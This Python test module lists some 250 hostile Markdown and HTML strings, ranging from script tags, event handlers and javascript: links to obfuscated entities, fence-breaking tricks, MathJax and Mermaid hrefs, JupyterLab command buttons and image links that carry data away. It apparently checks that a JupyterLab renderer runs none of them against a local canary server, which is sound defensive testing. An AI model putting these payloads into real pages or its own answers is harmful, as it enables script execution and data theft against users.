"""Answers that a model might be talked into, each trying to do something to the page that shows it.

Every text in `HOSTILE` has two placeholders: `{canary}`, the address of a server that nothing may ask for anything, and
`{js}`, JavaScript that sets `window.__pwned` and asks that server. Show each in a trusted cell of a real JupyterLab: the
server must hear nothing, and `window.__pwned` must stay undefined.
"""

from __future__ import annotations

from collections.abc import Iterator

# An attribute, and what follows a quote that was meant to stay within one.
_BREAKOUT = '" autofocus tabindex=0 onfocus="{js}" x="'

_SCRIPTS = {
    "script": "<script>{js}</script>",
    "script with a source": '<script src="{canary}/x.js"></script>',
    "script module": '<script type="module">import "{canary}/x.mjs"</script>',
    "script in upper case": "<SCRIPT>{js}</SCRIPT>",
    "script with a slash": "<script/x>{js}</script>",
    "script in a paragraph": "Here you are: <b>bold</b> <script>{js}</script> done.",
    "script over lines": "<script\n>\n{js}\n</script\n>",
    "script in a heading": "# Hello <script>{js}</script>",
    "script in a list": "- one\n- <script>{js}</script>",
    "script in a quote": "> <script>{js}</script>",
    "script in a table": "| a | b |\n|---|---|\n| <script>{js}</script> | x |",
    "script in a link's text": "[<script>{js}</script>](https://example.org)",
    "script in emphasis": "**<script>{js}</script>** _<script>{js}</script>_ ~~<script>{js}</script>~~",
    "script behind a backslash": "\\\\<script>{js}</script>",
    "script within nested tags": "<scr<script>ipt>{js}</scr</script>ipt>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror={js}>">',
    "template": "<template><script>{js}</script></template>",
}
_HANDLERS = {
    "img onerror": '<img src=x onerror="{js}">',
    "img onerror without quotes": "<img src=x onerror={js}>",
    "img onerror with slashes": "<img/src=x/onerror={js}>",
    "img onerror over lines": '<img\nsrc=x\nonerror="{js}"\n>',
    "img onerror without an end": '<img src=x onerror="{js}" ',
    "img onerror in a block": 'Text\n\n<div>\n<img src=x onerror="{js}">\n</div>\n\nText',
    "image element": '<image src=x onerror="{js}">',
    "details ontoggle": '<details open ontoggle="{js}"><summary>x</summary></details>',
    "input autofocus": '<input autofocus onfocus="{js}">',
    "select autofocus": '<select autofocus onfocus="{js}"></select>',
    "textarea autofocus": '<textarea autofocus onfocus="{js}"></textarea>',
    "div contenteditable": '<div contenteditable autofocus tabindex=0 onfocus="{js}">x</div>',
    "body onload": '<body onload="{js}">',
    "video onerror": '<video src=x onerror="{js}"></video>',
    "audio onerror": '<audio src=x onerror="{js}"></audio>',
    "video source": '<video><source onerror="{js}"></video>',
    "marquee": '<marquee onstart="{js}">x</marquee>',
    "animation": '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="{js}">x</p>',
    "transition": '<p style="transition:1s" ontransitionend="{js}" tabindex=0>x</p>',
    "custom element": '<x-y onclick="{js}">click</x-y>',
    "whole width": '<p onmouseover="{js}" style="position:fixed;inset:0;z-index:9999">x</p>',
    "popover": '<button popovertarget=x>a</button><p popover id=x onbeforetoggle="{js}">x</p>',
    "entities in the handler": '<img src=x onerror="&#119;indow.__pwned=1">',
    "closing tag": '</p onclick="{js}"><p onclick="{js}">x',
}
_FRAMES = {
    "iframe": '<iframe src="{canary}/frame"></iframe>',
    "iframe javascript": '<iframe src="javascript:{js}"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>{js}</script>"></iframe>',
    "object": '<object data="{canary}/object"></object>',
    "embed": '<embed src="{canary}/embed">',
    "frameset": '<frameset><frame src="{canary}/frame"></frameset>',
    "portal": '<portal src="{canary}/portal"></portal>',
    "form": '<form action="{canary}/form"><input name=password><button>Log in again</button></form>',
    "button formaction": '<form id=f></form><button form=f formaction="javascript:{js}">x</button>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url={canary}/meta">',
    "base": '<base href="{canary}/"><a href="x">x</a>',
    "link stylesheet": '<link rel="stylesheet" href="{canary}/style.css">',
    "link prefetch": '<link rel="prefetch" href="{canary}/prefetch"><link rel="preload" as="image" href="{canary}/p">',
    "dialog": '<dialog open><form method=dialog action="{canary}/d"><button>OK</button></form></dialog>',
}
_DRAWINGS = {
    "svg onload": '<svg onload="{js}"></svg>',
    "svg with a slash": "<svg/onload={js}>",
    "svg script": "<svg><script>{js}</script></svg>",
    "svg image": '<svg><image href="{canary}/svg.png"></image></svg>',
    "svg use": '<svg><use href="{canary}/x.svg#x"></use></svg>',
    "svg animate": '<svg><a><animate attributeName=href values="javascript:{js}"/><text y=20>x</text></a></svg>',
    "svg foreignObject": '<svg><foreignObject><img src=x onerror="{js}"></foreignObject></svg>',
    "svg style": "<svg><style>@import url({canary}/svg.css)</style></svg>",
    "math href": '<math><mtext href="javascript:{js}">x</mtext></math>',
    "math annotation": '<math><annotation-xml encoding="text/html"><img src=x onerror="{js}"></annotation-xml></math>',
    "math maction": '<math><maction actiontype="statusline" xlink:href="javascript:{js}">x</maction></math>',
    "math mglyph": '<math><mi><mglyph src="{canary}/glyph.png"></mi></math>',
}
_STYLES = {
    "style import": "<style>@import '{canary}/import.css';</style>",
    "style background": "<style>body{background:url({canary}/background)}</style>",
    "style attribute": '<p style="background:url({canary}/inline)">x</p>',
    "style that hides the page": "<style>*{display:none!important}</style>",
    "style over lines": "<style>\n\n* { background: url('{canary}/lines') }\n\n</style>",
    "style font": "<style>@font-face{font-family:x;src:url({canary}/font)}*{font-family:x}</style>",
    "list style": '<ul><li style="list-style-image:url({canary}/bullet)">x</li></ul>',
}
_PICTURES = {
    "picture": "![chart]({canary}/inline.png)",
    "picture with a title": '![chart]({canary}/title.png "a title")',
    "picture in angle brackets": "![chart](<{canary}/angle.png>)",
    "picture with no text": "![]({canary}/empty.png)",
    "picture by reference": "![chart][r]\n\n[r]: {canary}/reference.png",
    "picture by collapsed reference": "![chart][]\n\n[chart]: {canary}/collapsed.png",
    "picture by shortcut reference": "![chart]\n\n[chart]: {canary}/shortcut.png",
    "picture by reference over lines": "![chart][r]\n\n[r]:\n  {canary}/lines.png\n  'title'",
    "picture defined in a quote": "![chart][r]\n\n> [r]: {canary}/quote.png",
    "picture defined in a list": "![chart][r]\n\n- [r]: {canary}/list.png",
    "picture defined in a task": "![chart][r]\n\n- [ ] [r]: {canary}/task.png",
    "picture with a label over lines": "![a\nb][]\n\n[a\nb]: {canary}/label.png",
    "picture in a link": "[![chart]({canary}/linked.png)](https://example.org)",
    "picture in a table": "| a |\n|---|\n| ![chart]({canary}/table.png) |",
    "picture in a heading": "# ![chart]({canary}/heading.png)",
    "picture that carries data away": "![x]({canary}/?stolen=the+first+cell+said+sk-12345)",
    "picture without a scheme": "![x](//{host}/scheme.png)",
    "picture of nested brackets": "![a ![b]({canary}/b.png) c]({canary}/c.png)",
    "picture with an escaped bracket": "\\![x]({canary}/escaped.png) !\\[x]({canary}/escaped2.png)",
    "picture behind a word joiner": "!\u2060[x]({canary}/joiner.png)![x]({canary}/after.png)",
    "img element": '<img src="{canary}/element.png">',
    "img srcset": '<img srcset="{canary}/srcset.png 1x">',
    "picture element": '<picture><source srcset="{canary}/source.png"><img></picture>',
    "input image": '<input type=image src="{canary}/input.png">',
    "video poster": '<video poster="{canary}/poster.png"></video>',
    "audio": '<audio src="{canary}/audio.mp3" autoplay></audio>',
    "track": '<video><track default src="{canary}/track.vtt"></video>',
    "table background": '<table background="{canary}/table.png"><tr><td>x</table>',
    "attachment": "![x](attachment:secret.png)",
}
_LINKS = {
    "javascript link": "[click](javascript:{js})",
    "javascript link in upper case": "[click](JaVaScRiPt:{js})",
    "javascript link in angle brackets": "[click](<javascript:{js}>)",
    "javascript link with a title": '[click](javascript:{js} "title")',
    "javascript link behind spaces": "[click](   javascript:{js})",
    "javascript link behind a line": "[click](\njavascript:{js})",
    "javascript link with a tab": "[click](java\tscript:{js})",
    "javascript link with a line end": "[click](<java\nscript:{js}>)",
    "javascript link in decimal entities": "[click](&#106;&#97;vascript:{js})",
    "javascript link in padded entities": "[click](&#0000106avascript:{js})",
    "javascript link in hexadecimal entities": "[click](&#x6A;avascript:{js})",
    "javascript link with a named entity": "[click](javascript&colon;{js})",
    "javascript link with entities for blanks": "[click](java&Tab;script&NewLine;:{js})",
    "javascript link with a control character": "[click](\x01javascript:{js})",
    "javascript link with a backslash": "[click](\\javascript:{js})",
    "javascript link with percent signs": "[click](%6A%61vascript:{js})",
    "javascript link with a zero-width space": "[click](\u200bjavascript:{js})",
    "javascript link by reference": "[click][r]\n\n[r]: javascript:{js}",
    "javascript link by a definition over lines": "[click][r]\n\n[r]:\n   javascript:{js}",
    "javascript link by a footnote": "click[^1]\n\n[^1]: [x](javascript:{js}) <img src=x onerror={js}>",
    "javascript autolink": "<javascript:{js}>",
    "data link": "[click](data:text/html,<script>{js}</script>)",
    "data link in base 64": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data autolink": "<data:text/html,x>",
    "vbscript link": "[click](vbscript:MsgBox(1))",
    "file link": "[click](file:///etc/passwd)",
    "ftp link": "[click](ftp://{host}/x) and ftp://{host}/y and <ftp://{host}/z>",
    "blob link": "[click](blob:{canary}/x)",
    "relative link": "[click](../../etc/passwd) [click](/api/contents?token=x) [click](notebook.ipynb)",
    "link without a scheme": "[click](//{host}/x)",
    "html link": '<a href="javascript:{js}">click</a>',
    "html link over lines": '<a\nhref="javascript:{js}"\n>click</a>',
    "html area": '<map name=m><area shape=rect coords="0,0,999,999" href="javascript:{js}"></map><img usemap="#m">',
    "link in a link": "[a [b](javascript:{js}) c](javascript:{js})",
    "link of two lines": "[a\nb](javascript:{js})",
    "link with a broken title": "[a](https://example.org '" + _BREAKOUT + "')",
    "ping": '<a href="https://example.org" ping="{canary}/ping">x</a>',
    "abbreviation": "*[HTML]: <img src=x onerror={js}>\n\nHTML",
}
_COMMANDS = {
    "command button": '<button data-commandlinker-command="terminal:create-new">Show more</button>',
    "command link": '<a data-commandlinker-command="filebrowser:delete" href="#">x</a>',
    "command with arguments": "<button data-commandlinker-command='docmanager:open' "
    'data-commandlinker-args=\'{"path":"x"}\'>x</button>',
    "command in a table": "| a |\n|---|\n| <button data-commandlinker-command=kernelmenu:shutdown>x</button> |",
    "local file anchor": '<a data-path="/etc/passwd" data-locator="x">x</a>',
}
_FORMULAS = {
    "formula that ends an attribute": "[click](https://example.org/$" + _BREAKOUT + "$)",
    "formula that ends a title": '[click](https://example.org "a $' + _BREAKOUT + '$")',
    "formula that ends a bare address": "https://example.org/$" + _BREAKOUT + "$",
    "formula that ends an address without scheme": "www.example.org/$" + _BREAKOUT + "$",
    "formula that ends an autolink": "<https://example.org/$" + _BREAKOUT + "$>",
    "formula in brackets that ends an address": "https://example.org/\\\\(" + _BREAKOUT + "\\\\)",
    "environment that ends an address": "https://example.org/\\begin{x}" + _BREAKOUT + "\\end{x}",
    "formula that ends a definition": "[a]\n\n[a]: https://example.org/$" + _BREAKOUT + "$",
    "formula that ends a definition's title": "[a]\n\n[a]: https://example.org\n'$" + _BREAKOUT + "$'",
    "formula that ends a language": "```py$" + _BREAKOUT + "$\nx\n```",
    "formula that swallows a fence": "$\n```\n$\n<img src=x onerror={js}>\n",
    "formula that swallows a closing fence": "```\n$\n```\n$\n\n```\n<img src=x onerror={js}>\n```\n",
    "environment that swallows a fence": "\\begin{x}\n```\n\\end{x}\n<img src=x onerror={js}>\n```\n",
    "environment from code": "```\n\\begin{x}\n```\n\\end{x}\n<img src=x onerror={js}>\n",
    "formula of nbconvert over blank lines": "a $$ b\n\n```\n$$ <img src=x onerror={js}>\n```",
    "formula of nbconvert from a heading": "# a $$\nb $$\n\n```\n$$ <img src=x onerror={js}>\n```",
    "environment of nbconvert": "\\begin{x}\n\n```\n\\end{x}<img src=x onerror={js}>\n```",
    "formula with html": "$<img src=x onerror={js}>$ $$<script>{js}</script>$$",
    "formula in code with html": "`$<img src=x onerror={js}>` <img src=x onerror={js}> `$`",
    "formula with ticks": "$`$ ` `<img src=x onerror={js}>`",
    "a place of a formula that is none": "@\\@0@@ @\\@99@@ &#64;@0@@",
    "a formula in another's place": '[x](https://example.org/@@0@@) $" onmouseover="{js}$',
    "a formula in another's place, escaped": '[x](https://example.org/@\\@0@@) $" onmouseover="{js}$',
    "href": "$\\href{javascript:{js}}{click}$",
    "href in a display": "$$\\href{javascript:{js}}{click}$$",
    "href in entities": "&#36;&#92;href{javascript:{js}}{click}&#36; \\\\(\\hr&#101;f{javascript:{js}}{x}\\\\)",
    "href by a definition": "$\\def\\x{\\href} \\x{javascript:{js}}{click}$ $\\let\\y=\\href \\y{javascript:{js}}{x}$",
    "style": "$\\style{background:url({canary}/style.png);position:fixed;inset:0}{x}$",
    "bbox": "$\\bbox[background:url({canary}/bbox.png)]{x}$",
    "class": "$\\class{jp-Dialog}{\\cssId{jp-main}{x}}$",
    "mmlToken": '$\\mmlToken{mi}[href="javascript:{js}"]{x}$',
    "require": "$\\require{[mathjax]/../../../files/evil}$ $\\require{setoptions}\\setOptions{x}$",
    "includegraphics": "$\\includegraphics{{canary}/graphics.png}$",
    "redefinition": "$\\renewcommand{\\leq}{\\geq} \\def\\sum{\\prod} \\newcommand{\\x}{y}$",
}
_FENCES = {
    "language that ends an attribute": "```py" + _BREAKOUT + "\nx\n```",
    "language that ends an element": '```py"><img src=x onerror={js}>\nx\n```',
    "language that ends an element, tilde": "~~~py'\"><img src=x onerror={js}>\nx\n~~~",
    "language with a backtick": "```a`b\n<img src=x onerror={js}>\n```\n",
    "mermaid": 'See:\n\n```mermaid\nflowchart LR\n  A@{ img: "{canary}/mermaid.png", label: "x" }\n```',
    "mermaid click": '```mermaid\nflowchart LR\n  A-->B\n  click A href "javascript:{js}"\n```',
    "mermaid theme": '```mermaid\n%%{init: {"themeCSS": "*{background:url({canary}/theme)}"}}%%\nflowchart LR\n  A\n```',
    "mermaid for nbconvert": "```mermaid\n<img src=x onerror={js}>\n```",
    "mermaid with a space": "``` mermaid \n<img src=x onerror={js}>\n```",
    "mermaid in upper case": "~~~MERMAID\n<img src=x onerror={js}>\n~~~",
    "fence never closed": "```html\n<img src=x onerror={js}>",
    "fence closed by another": "```\ncode\n~~~\n<img src=x onerror={js}>\n```\n<img src=x onerror={js}>",
    "fence closed by a longer one": "```\ncode\n`````\n<img src=x onerror={js}>",
    "fence closed by a shorter one": "`````\ncode\n```\n<img src=x onerror={js}>\n`````\n<img src=x onerror={js}>",
    "fence closed with a tail": "```\ncode\n``` x\n<img src=x onerror={js}>\n```\n<img src=x onerror={js}>",
    "fence closed by both marks": "```\ncode\n```~~~\n<img src=x onerror={js}>\n```\n",
    "fence closed with a tab": "```\ncode\n```\t\n<img src=x onerror={js}>\n```\n<img src=x onerror={js}>",
    "fence closed too far right": "```\ncode\n    ```\n<img src=x onerror={js}>\n```\n<img src=x onerror={js}>",
    "fence in a list": "- ```\n  <img src=x onerror={js}>\n  ```\n- <img src=x onerror={js}>",
    "fence in a list that ends": "- a\n  ```\n<img src=x onerror={js}>\n  ```\n<img src=x onerror={js}>",
    "fence on the line of its number": "text\n2. ```\n   ```\n   ![x]({canary}/number.png) <img src=x onerror={js}>",
    "fence in a task": "- [ ] ```\n  <img src=x onerror={js}>\n  ```\n  <img src=x onerror={js}>",
    "fence in a quote": "> ```\n> <img src=x onerror={js}>\n> ```\n> <img src=x onerror={js}>",
    "fence in a quote that ends": "> ```\n<img src=x onerror={js}>\n> ```\n<img src=x onerror={js}>",
    "fence in a quote behind an item": "+ a\n> ```py\n> <img src=x onerror={js}>\n> ```",
    "fence behind a tab": "a\n\t```\n\t<img src=x onerror={js}>\n\t```\n<img src=x onerror={js}>",
    "fence of four spaces": "a\n    ```\n    <img src=x onerror={js}>\n    ```\n",
    "fence of six spaces in a list": "- a\n      b\n\n      ```\n      <img src=x onerror={js}>\n      ```\n",
    "fence in a definition": "term\n: a\n```\n<img src=x onerror={js}>\n```\n",
    "fence in a footnote": "a[^1]\n\n[^1]: ```\n    <img src=x onerror={js}>\n    ```\n    <img src=x onerror={js}>",
    "fence within a label": "[\n```py\n]: {canary}/label ![\n```\n[click]\n<img src=x onerror={js}>",
    "fence behind a line separator": "```\na\u2028```\n<img src=x onerror={js}>\n```\n<img src=x onerror={js}>",
    "fence behind a carriage return": "```\na\r```\r<img src=x onerror={js}>\r```\r<img src=x onerror={js}>",
    "fence behind a form feed": "```\na\n\x0c```\n<img src=x onerror={js}>\n```\n<img src=x onerror={js}>",
    "fence in a comment": "<!--\n```\n-->\n<img src=x onerror={js}>\n```",
    "fence in an element": "<pre>\n```\n</pre><img src=x onerror={js}>\n```\n",
    "inline code that is none": "a ` b\n\n`<img src=x onerror={js}>\n\n\\`<img src=x onerror={js}>`",
    "inline code over cells": "| `a | <img src=x onerror={js}> ` |\n|---|---|\n| `a | <img src=x onerror={js}> ` |",
    "inline code in deleted text": "~~a `b~~ <img src=x onerror={js}>`",
    "inline code in bold text": "*x ``a* <img src=x onerror={js}> b``",
    "directive of MyST": "```{raw} html\n<img src=x onerror={js}>\n```\n\n```{image} {canary}/myst.png\n```",
    "colon fence": ":::{image} {canary}/colon.png\n:::\n\n::: {.x onclick={js}}\nx\n:::",
}
_MARKS = {
    "comment": "<!-- <img src=x onerror={js}> -->",
    "comment that ends early": "<!--> <img src=x onerror={js}> -->",
    "comment with an exclamation mark": "<!-- x --!> <img src=x onerror={js}>",
    "comment never closed": "<!-- \n\n<img src=x onerror={js}>",
    "doctype": "<!doctype html><html><body onload={js}>",
    "processing instruction": "<?xml version='1.0'?><?php {js} ?><img src=x onerror={js}>",
    "CDATA": "<![CDATA[ <img src=x onerror={js}> ]]> <![CDATA[>]]><img src=x onerror={js}>",
    "declaration": "<!ENTITY x '{canary}'> &x; <!A <img src=x onerror={js}>>",
    "entities for a tag": "&lt;img src=x onerror={js}&gt; &#60;img src=x onerror={js}&#62; &#x3c;script&#x3e;",
    "entity without an end": "&ltimg src=x onerror={js}&gt",
    "NUL in a tag": "<i\x00mg src=x onerror={js}> <\x00img src=x onerror={js}> <img\x00 src=x onerror={js}>",
    "carriage return in a tag": "<img\rsrc=x\ronerror={js}>",
    "line separators in a tag": "<img\u2028src=x\u2029onerror={js}> <img\x0bsrc=x\x0conerror={js}> <img\x85src=x onerror={js}>",
    "control characters": "\x1b[31mred\x1b[0m \x1b]8;;javascript:{js}\x07link\x1b]8;;\x07 \x08\x08 \x9b31m",
    "direction of writing": "access = '\u202euser\u2066'\u2069 <img src=x onerror={js}>\u202c",
    "full-width tag": "\uff1cimg src=x onerror={js}\uff1e <\uff49mg src=x onerror={js}>",
    "byte order mark": "\ufeff<img src=x onerror={js}>",
    "lone surrogate": "\ud83d <img src=x onerror={js}>",
    "heading that names the page": "# location\n\n## document\n\n### <img name=cookie>",
    "attribute over a quote": '"><img src=x onerror={js}><a href="',
    "html in a heading's id": '# " onclick="{js}" x="\n\n## <a name="x" onclick="{js}">y</a>',
    "plaintext": "<plaintext>\n\nall that follows",
    "xmp": "<xmp><img src=x onerror={js}></xmp><title></title><textarea></textarea><img src=x onerror={js}>",
    "select that eats tags": "<select><option><style></option></select><img src=x onerror={js}></style>",
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={js}&gt;">',
    "isindex": "<isindex type=image src={canary}/isindex onerror={js}>",
    "xss in a table's head": "| <img src=x onerror={js}> |\n|:--|\n| a |\n| </td><img src=x onerror={js}> |",
}
_SIZES = {
    "a line of a megabyte": "x" * 1_000_000 + "<img src=x onerror={js}>",
    "a megabyte of beginnings": "<" * 500_000 + "img src=x onerror={js}>",
    "quotes in quotes": "> " * 10_000 + "<img src=x onerror={js}>",
    "lists in lists": "- " * 10_000 + "<img src=x onerror={js}>",
    "brackets in brackets": "[" * 10_000 + "x" + "](javascript:1)" * 9_999 + "](javascript:{js})",
    "pictures in pictures": "![" * 10_000 + "x" + "](/x)" * 9_999 + "]({canary}/deep.png)",
}

HOSTILE: tuple[tuple[str, str], ...] = tuple(
    (f"{group}: {name}", text)
    for group, texts in {
        "script": _SCRIPTS,
        "handler": _HANDLERS,
        "frame": _FRAMES,
        "drawing": _DRAWINGS,
        "style": _STYLES,
        "picture": _PICTURES,
        "link": _LINKS,
        "command": _COMMANDS,
        "formula": _FORMULAS,
        "fence": _FENCES,
        "mark": _MARKS,
        "size": _SIZES,
    }.items()
    for name, text in texts.items()
)
"""A name, and the text with its placeholders."""


def answers(canary_url: str) -> Iterator[tuple[str, str]]:
    """Yield each hostile answer with its placeholders filled.

    Parameters
    ----------
    canary_url
        The address of the server that nothing may ask, as `http://127.0.0.1:PORT`; each answer asks for a path of its own
        where it can.

    Yields
    ------
    tuple of str
        Name and text.
    """
    canary = canary_url.rstrip("/")
    host = canary.partition("://")[2]
    # Neither quotes nor spaces nor an equals sign: it fits into every attribute and every address.
    js = f"Reflect.set(window,{_spelled('__pwned')},1),fetch({_spelled(canary + '/js')})"
    for name, text in HOSTILE:
        yield name, text.replace("{js}", js).replace("{canary}", canary).replace("{host}", host)


def _spelled(text: str) -> str:
    return f"String.fromCharCode({','.join(str(ord(char)) for char in text)})"
